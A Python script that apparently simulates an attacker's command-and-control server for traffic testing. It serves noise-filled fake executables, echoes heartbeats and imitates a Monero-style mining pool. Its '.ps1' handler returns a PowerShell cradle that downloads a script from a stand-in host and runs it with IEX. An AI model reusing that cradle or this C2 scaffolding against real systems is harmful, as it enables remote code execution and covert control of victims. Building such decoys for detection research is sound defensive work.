#!/usr/bin/env python3
"""The other end outside.  master.py ADDRESS CERTIFICATE KEY

8088 HTTP with orders, programs and uploads; 8443 the same by TLS, also a long connection that speaks in both directions; 3333 a mining pool; 2323 a bot's loader;
ICMP answers come from the kernel.
"""
import asyncio
import json
import os
import random
import ssl
import sys

# The first bytes of a Windows program (a DOS header, the offset of the PE header, "PE") and of a Linux one; the rest is noise.
DOS = b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0\xb8" + b"\0" * 43 + b"\x80\0\0\0" + b"\x0e\x1f\xba\x0e\0\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$" + b"\0" * 7
ELF = b"\x7fELF\2\1\1\0" + b"\0" * 8 + b"\2\0\x3e\0\1\0\0\0"


def program(start):
    return start + b"PE\0\0\x64\x86\6\0" * (start is DOS) + os.urandom(220_000)


async def page(reader, writer):
    while True:
        head = (await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 60)).decode("latin-1")
        length = next((int(line.split(":")[1]) for line in head.split("\r\n") if line.lower().startswith("content-length:")), 0)
        if "100-continue" in head:
            writer.write(b"HTTP/1.1 100 Continue\r\n\r\n")
        while length > 0:
            part = await reader.read(min(65536, length))
            if not part:
                return
            length -= len(part)
        path, kind = head.split(" ")[1], "text/html"
        if path.endswith(".exe"):
            body, kind = program(DOS), "application/octet-stream"
        elif path.endswith(".jpg"):
            body, kind = program(DOS), "image/jpeg"
        elif path.endswith((".x86", ".arm7", ".mips")):
            body, kind = program(ELF), "application/octet-stream"
        elif path.endswith(".ps1"):
            body, kind = b"$c=New-Object Net.WebClient;IEX $c.DownloadString('http://198.51.100.77:8088/s2');[System.Convert]::FromBase64String('" + os.urandom(900).hex().encode() + b"')", "text/plain"
        else:
            body = os.urandom(random.choice((0, 0, 0, 0, 64)))
        writer.write(f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body)
        await writer.drain()


async def talk(reader, writer):
    """A long connection: an answer to each heartbeat."""
    while True:
        data = await asyncio.wait_for(reader.read(4096), 60)
        if not data:
            return
        writer.write(os.urandom(40))
        await writer.drain()


async def pool(reader, writer):
    """Stratum as mining pools speak it: log-in, jobs every few seconds, shares accepted."""
    async def jobs():
        while True:
            await asyncio.sleep(random.uniform(4, 9))
            writer.write(json.dumps({"jsonrpc": "2.0", "method": "job", "params": {"blob": os.urandom(76).hex(), "job_id": os.urandom(6).hex(), "target": "b88d0600", "algo": "rx/0", "height": 3195555}}).encode() + b"\n")
    task = asyncio.ensure_future(jobs())
    try:
        while line := await reader.readline():
            number = json.loads(line).get("id")
            writer.write(json.dumps({"id": number, "jsonrpc": "2.0", "error": None, "result": {"status": "OK", "id": os.urandom(8).hex(), "job": {"blob": os.urandom(76).hex(), "job_id": os.urandom(6).hex(), "target": "b88d0600"}}}).encode() + b"\n")
            await writer.drain()
    finally:
        task.cancel()


def shielded(handler):
    async def serve(reader, writer):
        try:
            await handler(reader, writer)
        except (OSError, EOFError, ValueError, asyncio.TimeoutError, asyncio.LimitOverrunError):
            pass
        writer.close()
    return serve


async def main():
    _, certificate, key = sys.argv[1:4]
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate, key)
    await asyncio.start_server(shielded(page), "0.0.0.0", 8088)
    await asyncio.start_server(shielded(page), "0.0.0.0", 8443, ssl=context)
    await asyncio.start_server(shielded(talk), "0.0.0.0", 9443, ssl=context)
    await asyncio.start_server(shielded(talk), "0.0.0.0", 7070)
    await asyncio.start_server(shielded(pool), "0.0.0.0", 3333)
    await asyncio.Event().wait()


asyncio.run(main())
